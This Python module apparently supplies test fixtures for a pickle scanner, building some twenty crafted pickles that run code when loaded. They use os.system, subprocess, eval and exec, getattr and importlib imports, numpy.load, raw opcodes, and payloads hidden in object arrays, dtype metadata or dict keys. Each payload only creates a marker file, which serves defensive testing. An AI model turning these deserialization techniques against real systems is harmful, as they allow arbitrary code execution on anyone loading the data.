"""Pickles that run code where they are trusted: each makes a file when it is loaded by `pickle.loads`."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from pathlib import Path

import numpy as np

Trap = Callable[[Path], bytes]


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _touch(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _call(module: str, name: str, *arguments: bytes) -> bytes:
    """REDUCE of a global."""
    return b"c" + f"{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def _program(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


class _Reduced:
    def __init__(self, *parts: object) -> None:
        self.parts = parts

    def __reduce__(self) -> tuple[object, ...]:
        return self.parts


def _in_array(marker: Path) -> bytes:
    """An array of objects, one of which is the trap."""
    array = np.empty(1, dtype=object)
    array[0] = _Reduced(exec, (_touch(marker),))
    return pickle.dumps({"data": array, "labels": [0]}, protocol=2)


def _in_dtype(marker: Path) -> bytes:
    """The trap hides in the metadata of an array's type."""
    trap = _call("builtins", "exec", _text(_touch(marker)))
    sizes = b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00"
    kind = b"cnumpy\ndtype\n(" + _text("u1") + b"\x89\x88tR(K\x03" + _text("|") + sizes
    return _program(kind + b"}" + _text("x") + trap + b"stb")


def _numpy_load(marker: Path) -> bytes:
    """numpy.load with allow_pickle, on a file that lies beside."""
    second = marker.with_suffix(".npy")
    array = np.empty(1, dtype=object)
    array[0] = _Reduced(exec, (_touch(marker),))
    np.save(second, array, allow_pickle=True)
    return _program(_call("numpy", "load", _text(str(second)), b"N", b"\x88"))


def _by_getattr(marker: Path) -> bytes:
    """Import by way of getattr, without the word import_module."""
    getter = _call("builtins", "getattr", b"cbuiltins\n__import__\n", _text("__call__"))
    module = getter + b"(" + _text("os") + b"tR"
    system = b"cbuiltins\ngetattr\n(" + module + _text("mknod") + b"tR"
    return _program(system + b"(" + _text(str(marker)) + b"tR")


TRAPS: dict[str, Trap] = {
    "os.system": lambda m: _program(_call("os", "system", _text(f"touch '{m}'"))),
    "posix.system": lambda m: _program(_call("posix", "system", _text(f"touch '{m}'"))),
    "subprocess.call": lambda m: _program(_call("subprocess", "call", b"(" + _text("touch") + _text(str(m)) + b"l")),
    "subprocess.Popen": lambda m: _program(
        b"cbuiltins\ngetattr\n(" + _call("subprocess", "Popen", b"(" + _text("touch") + _text(str(m)) + b"l")
        + _text("wait") + b"tR)R"
    ),
    "eval": lambda m: _program(_call("builtins", "eval", _text(_touch(m)))),
    "exec": lambda m: _program(_call("builtins", "exec", _text(_touch(m)))),
    "python 2 eval": lambda m: b"c__builtin__\neval\n(V" + _touch(m).encode() + b"\ntR.",
    "getattr": _by_getattr,
    "importlib": lambda m: _program(
        b"cbuiltins\ngetattr\n(" + _call("importlib", "import_module", _text("os")) + _text("mknod") + b"tR("
        + _text(str(m)) + b"tR"
    ),
    "numpy.load": _numpy_load,
    "runstring": lambda m: _program(_call("numpy.testing._private.utils", "runstring", _text(_touch(m)), b"}")),
    "pathlib by copyreg": lambda m: _program(
        b"cbuiltins\ngetattr\n(" + _call("copyreg", "__newobj__", b"cpathlib\nPosixPath\n", _text(str(m)))
        + _text("touch") + b"tR)R"
    ),
    "INST": lambda m: b"(V" + _touch(m).encode() + b"\nibuiltins\nexec\n.",
    "OBJ": lambda m: b"(cbuiltins\nexec\nV" + _touch(m).encode() + b"\no.",
    "STACK_GLOBAL": lambda m: _program(_text("builtins") + _text("exec") + b"\x93(" + _text(_touch(m)) + b"tR"),
    "NEWOBJ": lambda m: _program(
        b"cio\nFileIO\n)\x810" + b"cio\nFileIO\n(" + _text(str(m)) + _text("w") + b"tR"
    ),
    "NEWOBJ_EX": lambda m: _program(
        b"cpathlib\nPosixPath\n(" + _text(str(m)) + b"t}\x92" + b"0" + _call("builtins", "exec", _text(_touch(m)))
    ),
    "dotted name": lambda m: _program(_text("os") + _text("path.os.mknod") + b"\x93(" + _text(str(m)) + b"tR"),
    "array of objects": _in_array,
    "type of an array": _in_dtype,
    "behind data": lambda m: _program(b"}(" + _text("data") + _call("builtins", "exec", _text(_touch(m))) + b"u"),
    "as a key": lambda m: _program(b"}" + _call("builtins", "exec", _text(_touch(m))) + b"N" + b"s"),
}  # fmt: skip
